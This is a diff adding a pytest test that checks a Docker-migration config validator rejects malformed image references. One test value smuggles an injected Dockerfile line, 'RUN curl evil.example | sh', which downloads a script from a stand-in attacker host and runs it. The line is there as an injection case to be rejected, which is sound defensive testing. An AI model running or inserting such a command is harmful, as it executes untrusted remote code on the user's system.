@@ -253,3 +253,14 @@ def test_the_built_in_masters_are_the_only_ones_with_built_in_facts(tmp_path):
     master = own.masters[0]
     assert (master.uid, master.port, master.health_path, master.workdir, master.home) == (None, None, None, None, None)
     assert master.fact("uid").source.text == "nothing states the master's uid"
+
+
+@pytest.mark.parametrize("image", ["", "python:3.12 ", "acme/py:1\nRUN curl evil.example | sh"])
+def test_a_master_image_that_is_not_one_reference_is_a_config_error(tmp_path, capsys, image):
+    import json
+
+    (tmp_path / ".dockermig.yaml").write_text(
+        f"masters:\n  - image: {json.dumps(image)}\n    language: python\n    user: app\n")
+    assert main(["check-config", str(tmp_path)]) == 2
+    err = capsys.readouterr().err
+    assert "is not an image reference" in err and ".dockermig.yaml:" in err
